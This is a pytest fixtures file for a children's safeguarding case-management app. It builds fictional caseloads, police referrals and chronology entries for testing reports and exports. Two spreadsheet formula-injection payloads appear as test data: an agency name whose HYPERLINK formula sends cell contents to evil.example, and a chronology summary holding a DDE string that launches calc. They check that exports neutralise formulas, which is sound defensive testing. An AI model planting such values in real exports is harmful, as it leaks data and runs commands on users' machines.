"""Fixtures for reports, subject access and chronology exports: small caseloads made through the services."""

from datetime import UTC, date, datetime, timedelta

import pytest

from app.extensions import db
from safeguarding import cases, contexts, people, referrals

# An agency name a spreadsheet would run as a formula, were it not neutralised.
FORMULA_AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
NOVEMBER = ("2026-11-01", "2026-12-01")  # the period of the hand-counted caseload (end exclusive)


@pytest.fixture
def lead(make_user):
    return make_user("safeguarding_lead", family_name="Lead")


@pytest.fixture
def lead_client(login, lead):
    return login(lead)


def record(recorder, given_name: str, family_name: str = "Count", **fields):
    data = {"given_name": given_name, "family_name": family_name, "date_of_birth": "2011-03-27", **fields}
    return people.record_person(db.session, recorder, data)


def open_case(lead_worker, person, concerns=("cce",), risk="high", opened_on=None):
    data = {
        "subject": {"type": "person", "id": person.id},
        "concerns": list(concerns),
        "risk_level": risk,
        "summary": "Seen with older males at the station late at night",
    }
    return cases.open_case(db.session, lead_worker, data, opened_on=opened_on)


@pytest.fixture
def caseload(make_user, make_agency):
    return make_caseload(make_user, make_agency)


def make_caseload(make_user, make_agency) -> dict:
    """Hand-counted: seven cases open since 1 October 2026 (six cce high, one cse low) and nine referrals to a
    police agency in November 2026 (two red, seven amber; six accepted three hours after sending, three awaiting).

    November: open cases 7, referrals 9 (all to one agency), urgency red 2 and amber 7 -> both hidden (secondary),
    outcome accepted 6 and awaiting 3 -> both hidden, 100% decided in time, median 3.0 hours; October: no referrals.
    """
    worker = make_user("social_worker")
    police = make_user("police_officer", agency=make_agency(name=FORMULA_AGENCY, kind="police"))
    children = [
        record(worker, f"Child{i}", date_of_birth=f"201{i % 6}-03-01", sex="female" if i % 2 else "male")
        for i in range(7)
    ]
    october = date(2026, 10, 1)
    opened = {
        child.id: open_case(worker, child, ["cse"] if i == 6 else ["cce"], "low" if i == 6 else "high", october)
        for i, child in enumerate(children)
    }
    sent = datetime(2026, 11, 2, 10, tzinfo=UTC)
    for i in range(9):
        data = {
            "person_id": children[i % 7].id,
            "to_agency_id": police.agency_id,
            "urgency": "red" if i < 2 else "amber",
            "reason": "Concern",
        }
        referral = referrals.submit_referral(db.session, worker, data, sent_at=sent + timedelta(days=i))
        if i < 6:
            accepted_at = referral.sent_at + timedelta(hours=3)
            case_id = opened[referral.person_id].id
            if not opened[referral.person_id].has_member(police.id):  # the lead brings the police onto the team
                cases.add_member(db.session, worker, case_id, police.id)
            accept = {"case_id": case_id}
            referrals.transition(db.session, police, referral.id, "accept", accept, at=accepted_at)
    return {"worker": worker, "police": police, "children": children}


@pytest.fixture
def team(make_user):
    return {
        role: make_user(role) for role in ("social_worker", "police_officer", "youth_worker", "health_practitioner")
    }


@pytest.fixture
def child(team):
    return record(team["social_worker"], "Leon", "Achterberg")


@pytest.fixture
def case(team, child):
    lead_worker = team["social_worker"]
    opened = open_case(lead_worker, child)
    for role in ("police_officer", "youth_worker", "health_practitioner"):
        cases.add_member(db.session, lead_worker, opened.id, team[role].id)
    return opened


def add_entry(author, case, occurred_on, category, sensitivity, summary):
    data = {"occurred_on": occurred_on, "category": category, "sensitivity": sensitivity, "summary": summary}
    return cases.add_chronology_entry(db.session, author, case.id, data)


@pytest.fixture
def chronology(team, case):
    """One entry of each sensitivity, by different agencies, and one whose summary a spreadsheet would run."""
    add_entry(team["social_worker"], case, "2026-02-10", "home_visit", "general", "Home visit: mother worried")
    add_entry(team["police_officer"], case, "2026-01-05", "intelligence", "intelligence", "Seen with a known dealer")
    add_entry(team["health_practitioner"], case, "2026-01-20", "health_attendance", "health", "Attended ED, stab wound")
    add_entry(team["youth_worker"], case, "2026-01-12", "contact", "general", "=cmd|' /C calc'!A0 at the park")


@pytest.fixture
def subject(make_user):
    return make_subject(make_user)


def make_subject(make_user) -> dict:
    """Quillonetta, her brother Barnabus (whose name is in her records), a case, an entry and a referral."""
    worker, police = make_user("social_worker"), make_user("police_officer")
    child = record(worker, "Quillonetta", "Zarb", address="1 Marker Street")
    brother = record(worker, "Barnabus", "Vexley", date_of_birth="2009-01-01")
    link = {"source": {"type": "person", "id": child.id}, "target": {"type": "person", "id": brother.id}}
    contexts.add_relationship(db.session, worker, {**link, "kind": "sibling"})
    opened = open_case(worker, child)
    add_entry(worker, opened, "2026-05-01", "home_visit", "general", "Saw Quillonetta with barnabus VEXLEY at home")
    data = {"person_id": child.id, "to_agency_id": police.agency_id, "urgency": "amber", "reason": "Seen with Barnabus"}
    referrals.submit_referral(db.session, worker, data)
    people.view_person(db.session, worker, child.id)
    return {"child": child, "brother": brother}
